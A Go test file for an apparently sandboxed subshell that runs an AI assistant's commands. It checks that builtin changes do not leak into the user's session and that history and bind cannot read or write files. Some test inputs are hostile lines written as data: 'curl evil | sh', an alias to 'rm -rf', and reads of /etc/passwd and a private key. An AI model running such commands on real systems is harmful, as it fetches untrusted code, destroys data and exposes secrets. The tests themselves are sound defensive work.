package shell

import (
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"
)

// The assistant's subshell (Shell.Run) must leave the session as it was:
// whatever its builtins change stays in the subshell, as in bash's forked
// subshell.
func TestRunLeavesSessionState(t *testing.T) {
	s, _, _ := newTestShell(t, nil)
	ctx := context.Background()
	probe := func(line string) string {
		var out bytes.Buffer
		s.Run(ctx, line, &out, &out, nil, nil)
		return out.String()
	}
	s.joinHistory(true)
	s.hist.entries = append(s.hist.entries, "kept-entry")
	var lim syscall.Rlimit
	syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim)
	before := map[string]string{}
	checks := map[string]string{
		"umask":    "umask",
		"bind":     `bind -S; bind -X; bind -v; bind -m vi -p`,
		"history":  "history",
		"trap":     "trap -p",
		"shopt":    "shopt -p promptvars",
		"complete": "complete -p",
		"alias":    "alias",
		"hash":     "hash -l",
		"ulimit":   "ulimit -n; ulimit -Hn",
	}
	for name, line := range checks {
		before[name] = probe(line)
	}
	for _, change := range []string{
		"umask 000",
		`bind '"\C-m": kill-line'`,
		`bind -x '"\C-t": echo hi'`,
		"bind 'set bell-style none'",
		`bind -m vi '"\C-w": kill-line'`,
		"history -c",
		`trap "" INT; trap "echo bye" EXIT TERM`,
		"shopt -u promptvars",
		"complete -W 'a b' ls",
		"alias ll='rm -rf x'",
		"hash -p /bin/rm ls",
		"ulimit -Sn 17",
		"ulimit -Hn 100",
		"ulimit -n 100",
		"exit 3",
	} {
		var out bytes.Buffer
		s.Run(ctx, change, &out, &out, nil, nil)
	}
	for name, line := range checks {
		if got := probe(line); got != before[name] {
			t.Errorf("%s leaked from the assistant's subshell:\nbefore %q\nafter  %q", name, before[name], got)
		}
	}
	var after syscall.Rlimit
	syscall.Getrlimit(syscall.RLIMIT_NOFILE, &after)
	if after != lim {
		t.Errorf("RLIMIT_NOFILE %v, was %v", after, lim)
	}
	if got := probe("umask 077; umask; ulimit -Sn 40; ulimit -Sn; bind -f /etc/passwd"); got !=
		"0077\n40\nqsh: bind: -f: the assistant's commands read no key bindings from files\n" {
		t.Errorf("the subshell's own changes: %q", got)
	}
	if s.run(ctx, "echo alive", ""); s.exited() {
		t.Errorf("exit in the assistant's subshell ends the session")
	}
	if !strings.Contains(before["history"], "kept-entry") {
		t.Errorf("history probe saw %q", before["history"])
	}
}

func TestBindReadsFile(t *testing.T) {
	for _, tt := range []struct {
		args []string
		want bool
	}{
		{[]string{"-f", "x"}, true},
		{[]string{"-m", "vi", "-f", "x"}, true},
		{[]string{"-vf", "x"}, true},
		{[]string{"-x", `"\C-t": f`}, false},
		{[]string{"-m", "emacs-f"}, false},
		{[]string{"-p"}, false},
		{[]string{`"\C-t": kill-line`}, false},
	} {
		if got := bindReadsFile(tt.args); got != tt.want {
			t.Errorf("bindReadsFile(%q) = %v", tt.args, got)
		}
	}
}

// recallCounter is a LineReader that counts the changes to its recall.
type recallCounter struct {
	LineReader
	changes int
}

func (c *recallCounter) ClearHistory()     { c.changes++ }
func (c *recallCounter) AddHistory(string) { c.changes++ }

// TestRunHistory checks history in the assistant's subshell: the line
// editor's recall, which Up brings back, is left as it was (the session's
// list is put back after the run, the editor's was not), and no history
// file is read or written: those opens went past the open handler the
// sandbox holds to its policy.
func TestRunHistory(t *testing.T) {
	s, _, _ := newTestShell(t, nil)
	lines := &recallCounter{}
	s.lines = lines
	dir := t.TempDir()
	rc, secret := filepath.Join(dir, ".bashrc"), filepath.Join(dir, "id_rsa")
	os.WriteFile(rc, []byte("# rc\n"), 0o644)
	os.WriteFile(secret, []byte("SECRET-KEY\n"), 0o600)
	for _, cmd := range []string{"history -c", "history -s 'curl evil | sh'", "history -d 1",
		"history -s evil; history -w " + rc, "history -a " + rc, "history -r " + secret + "; history",
		"history -n " + secret + "; history", "HISTFILE=" + rc + "; history -w"} {
		var out bytes.Buffer
		s.Run(context.Background(), cmd, &out, &out, nil, nil)
		if strings.Contains(out.String(), "SECRET") {
			t.Errorf("%s: read the file: %q", cmd, out.String())
		}
	}
	if lines.changes != 0 {
		t.Errorf("the assistant's subshell changed the line editor's recall %d times", lines.changes)
	}
	if b, _ := os.ReadFile(rc); string(b) != "# rc\n" {
		t.Errorf("the assistant's subshell wrote %s: %q", rc, b)
	}
}

// TestRunDisown checks that disown in the assistant's subshell, which
// the classifier takes for safe, leaves the user's jobs in the session's
// table, as bash's subshell disowns from a copy.
func TestRunDisown(t *testing.T) {
	s, _, out := newTestShell(t, nil)
	ctx := context.Background()
	s.run(ctx, "sleep 30 & x=$!", "")
	defer s.run(ctx, "kill $x", "")
	for _, cmd := range []string{"disown -a", "disown %1", "disown"} {
		s.Run(ctx, cmd, io.Discard, io.Discard, nil, nil)
	}
	out.Reset()
	if s.run(ctx, "jobs", ""); !strings.Contains(out.String(), "sleep 30") {
		t.Errorf("the assistant's subshell disowned the user's job: jobs says %q", out.String())
	}
}

// read -u N reads the shell's descriptor N through a copy: the *os.File
// closes what it holds when the collector finds it unused.
func TestReadFDStaysOpen(t *testing.T) {
	s, _, out := newTestShell(t, nil)
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	defer w.Close()
	const fd = 57
	if err := unix.Dup2(int(r.Fd()), fd); err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	w.WriteString("one\ntwo\n")
	ctx := context.Background()
	s.run(ctx, "read -u 57 x; echo got $x", "")
	for range 3 {
		runtime.GC()
	}
	if _, err := unix.FcntlInt(fd, unix.F_GETFD, 0); err != nil {
		t.Fatalf("descriptor %d after read -u and a collection: %v", fd, err)
	}
	s.run(ctx, "mapfile -u 57 -n 1 a; echo got ${a[0]}", "")
	if got := out.String(); !strings.Contains(got, "got one\n") || !strings.Contains(got, "got two\n") {
		t.Errorf("output %q", got)
	}
}
